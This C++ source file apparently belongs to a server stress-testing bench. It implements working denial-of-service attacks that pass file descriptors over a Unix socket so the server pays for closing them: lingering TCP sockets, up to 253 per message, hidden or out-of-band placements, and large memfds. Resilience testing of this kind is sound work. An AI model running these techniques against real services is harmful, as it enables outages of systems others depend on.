// SPDX-License-Identifier: MIT
// Descriptors that are attached to messages: whoever drops the last reference pays for the end of
// the file behind it.
#include "attack.hpp"

#include "descriptors.hpp"
#include "questions.hpp"

#include <array>
#include <cerrno>
#include <csignal>
#include <cstring>
#include <deque>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/sysinfo.h>
#include <sys/time.h>
#include <vector>

namespace bench {

namespace {

constexpr int kLinger = 20;                  // s
constexpr std::size_t kMostAttached = 253;   // the kernel's SCM_MAX_FD
constexpr std::size_t kMostPeers = 4048;     // sixteen messages of 253
constexpr std::size_t kOpenConnections = 8;  // older ones are closed
constexpr int kRest = 10;                    // ms between two strikes
constexpr std::size_t kReadAtOnce = 4096;    // bytes, by the governor
constexpr int kDistractions = 8;
constexpr int kSmall = 1;  // of a buffer: the kernel takes its minimum

/// TCP sockets whose close() waits for kLinger, since their peers take nothing.
class LingeringSockets {
public:
        LingeringSockets() : listener_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
                address_.sin_family = AF_INET;
                address_.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
                auto* address = reinterpret_cast<sockaddr*>(&address_);
                socklen_t size = sizeof(address_);
                ::setsockopt(listener_.get(), SOL_SOCKET, SO_RCVBUF, &kSmall, sizeof(kSmall));
                if (::bind(listener_.get(), address, size) < 0 ||
                    ::listen(listener_.get(), 1) < 0 ||
                    ::getsockname(listener_.get(), address, &size) < 0)
                        fail("a listener on loopback");
        }

        [[nodiscard]] bool is_exhausted() const { return peers_.size() >= kMostPeers; }

        [[nodiscard]] UniqueFd make() {
                UniqueFd fd(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
                if (::connect(fd.get(), reinterpret_cast<const sockaddr*>(&address_),
                              sizeof(address_)) < 0)
                        fail("connect on loopback");
                peers_.emplace_back(::accept4(listener_.get(), nullptr, nullptr, SOCK_CLOEXEC));
                ::setsockopt(fd.get(), SOL_SOCKET, SO_SNDBUF, &kSmall, sizeof(kSmall));
                static const std::array<char, 65536> nothing{};
                while (::send(fd.get(), nothing.data(), nothing.size(), MSG_DONTWAIT) > 0) {
                }
                set_linger(fd.get(), kLinger);
                return fd;
        }

        /// Its close() ends the connection at once.
        static void calm(const UniqueFd& fd) { set_linger(fd.get(), 0); }

private:
        static void set_linger(int fd, int seconds) {
                const linger option{1, seconds};
                ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &option, sizeof(option));
        }

        UniqueFd listener_;
        sockaddr_in address_{};
        std::vector<UniqueFd> peers_;  // open until the attack ends
};

/// 0, or the error of sendmsg().
int send_with(int to, std::string_view bytes, const std::vector<UniqueFd>& attached, int flags) {
        std::string copy(bytes);
        iovec text{copy.data(), copy.size()};
        alignas(cmsghdr) std::array<char, CMSG_SPACE(kMostAttached * sizeof(int))> control{};
        msghdr message{};
        message.msg_iov = &text;
        message.msg_iovlen = 1;
        if (!attached.empty()) {
                std::array<int, kMostAttached> fds{};
                for (std::size_t i = 0; i < attached.size(); i++)
                        fds[i] = attached[i].get();
                const auto size = attached.size() * sizeof(int);
                message.msg_control = control.data();
                message.msg_controllen = CMSG_SPACE(size);
                auto* header = CMSG_FIRSTHDR(&message);
                header->cmsg_level = SOL_SOCKET;
                header->cmsg_type = SCM_RIGHTS;
                header->cmsg_len = CMSG_LEN(size);
                std::memcpy(CMSG_DATA(header), fds.data(), size);
        }
        return ::sendmsg(to, &message, MSG_NOSIGNAL | flags) >= 0 ? 0 : errno;
}

/// The place of the descriptors in a message.
enum class Place { Question, HalfQuestion, Unread, OutOfBand };

class DescriptorAttack : public Attack {
public:
        DescriptorAttack(const AttackOptions& options, Place place)
                : socket_(options.target.socket), place_(place) {
                std::signal(SIGALRM, [](int) {});
        }

        bool strike() override {
                rest_ms(kRest);
                auto connection = connect_to(socket_);
                if (!connection || was_told_to_end())
                        return false;
                auto attached = make();
                if (attached.empty())
                        return false;
                if (attached.size() > 1)
                        distract();
                const auto bytes = lead(connection.get());
                const int flags = place_ == Place::OutOfBand ? MSG_OOB : 0;
                if (const auto error = send_with(connection.get(), bytes, attached, flags)) {
                        // The bytes alone, as of a kernel that refuses the descriptors only.
                        refused_ += error == EPERM ? 1 : 0;
                        calm(attached);
                        (void)send_with(connection.get(), bytes, {}, flags);
                }
                close_soon(attached);
                connections_.push_back(std::move(connection));
                if (connections_.size() > kOpenConnections || place_ == Place::Unread)
                        connections_.pop_front();
                return true;
        }

        [[nodiscard]] std::uint64_t refused() const override { return refused_; }

protected:
        /// The descriptors to attach; nothing when there is enough of it.
        [[nodiscard]] virtual std::vector<UniqueFd> make() = 0;
        /// The kernel has refused them: closing them here must cost nothing.
        virtual void calm(const std::vector<UniqueFd>& attached) const = 0;

private:
        /// Keeps the server busy while so many descriptors are closed here.
        void distract() {
                distraction_ = connect_to(socket_);
                std::string work;
                for (int i = 0; i < kDistractions; i++)
                        work += costly_questions();
                if (distraction_)
                        (void)send_with(distraction_.get(), work, {}, 0);
        }

        /// The last reference is ours if the server was faster: a signal ends our wait for it.
        static void close_soon(std::vector<UniqueFd>& attached) {
                constexpr timeval kPatience{0, 1000};
                const itimerval often{kPatience, kPatience};
                const itimerval never{};
                ::setitimer(ITIMER_REAL, &often, nullptr);
                attached.clear();
                ::setitimer(ITIMER_REAL, &never, nullptr);
        }

        /// Sends what comes before the descriptors; returns what goes with them.
        [[nodiscard]] std::string lead(int connection) const {
                switch (place_) {
                case Place::HalfQuestion:
                        return question().substr(0, 3);
                case Place::OutOfBand:
                        (void)send_with(connection, question(), {}, 0);
                        return "x";
                case Place::Unread: {
                        // Work for some turns, then what ends the connection: by then the next
                        // message has arrived, and nobody reads it.
                        std::string work;
                        while (work.size() < kReadAtOnce / 2)
                                work += question();
                        work.resize(2 * kReadAtOnce, '\xff');
                        (void)send_with(connection, work, {}, 0);
                        return "x";
                }
                default:
                        return question();
                }
        }

        std::string socket_;
        Place place_;
        std::uint64_t refused_ = 0;
        std::deque<UniqueFd> connections_;
        UniqueFd distraction_;
};

class Linger : public DescriptorAttack {
public:
        Linger(const AttackOptions& options, Place place, std::size_t count)
                : DescriptorAttack(options, place), count_(count) {}

private:
        [[nodiscard]] std::vector<UniqueFd> make() override {
                std::vector<UniqueFd> made;
                for (std::size_t i = 0; i < count_ && !sockets_.is_exhausted(); i++)
                        made.push_back(sockets_.make());
                return made;
        }
        void calm(const std::vector<UniqueFd>& attached) const override {
                for (const auto& fd : attached)
                        LingeringSockets::calm(fd);
        }

        LingeringSockets sockets_;
        std::size_t count_;
};

class Memory : public DescriptorAttack {
public:
        explicit Memory(const AttackOptions& options)
                : DescriptorAttack(options, Place::Question), bytes_(options.memory_mib * kMiB),
                  before_(shared_memory()) {}

private:
        static constexpr off_t kMiB = 1 << 20;

        /// The shared memory of the whole machine, in bytes.
        [[nodiscard]] static off_t shared_memory() {
                struct sysinfo machine {};
                ::sysinfo(&machine);
                return static_cast<off_t>(machine.sharedram) * machine.mem_unit;
        }

        /// None while an earlier one is still there: a server that keeps them must not use up the
        /// machine.
        [[nodiscard]] std::vector<UniqueFd> make() override {
                std::vector<UniqueFd> made;
                if (shared_memory() > before_ + bytes_ / 2)
                        return made;
                made.emplace_back(::memfd_create("bench", MFD_CLOEXEC));
                if (::fallocate(made[0].get(), 0, 0, bytes_) < 0)
                        fail("a large memfd");
                return made;
        }
        void calm(const std::vector<UniqueFd>& /*attached*/) const override {}

        off_t bytes_;
        off_t before_;
};

template <Place place, std::size_t count>
std::unique_ptr<Attack> lingering(const AttackOptions& options) {
        return std::make_unique<Linger>(options, place, count);
}

std::unique_ptr<Attack> memory(const AttackOptions& options) {
        return std::make_unique<Memory>(options);
}

constexpr std::array<AttackKind, 6> kDescriptorAttacks{{
        {"linger", "a question with a socket whose close() waits 20 s",
         lingering<Place::Question, 1>},
        {"linger-half", "the same with half a question", lingering<Place::HalfQuestion, 1>},
        {"linger-many", "253 such sockets with one question",
         lingering<Place::Question, kMostAttached>},
        {"linger-unread", "the same behind what ends the connection", lingering<Place::Unread, 1>},
        {"linger-oob", "the same with an urgent byte (MSG_OOB)", lingering<Place::OutOfBand, 1>},
        {"memory", "a question with a memfd of --memory MiB", memory},
}};

}  // namespace

std::span<const AttackKind> descriptor_attacks() { return kDescriptorAttacks; }

}  // namespace bench
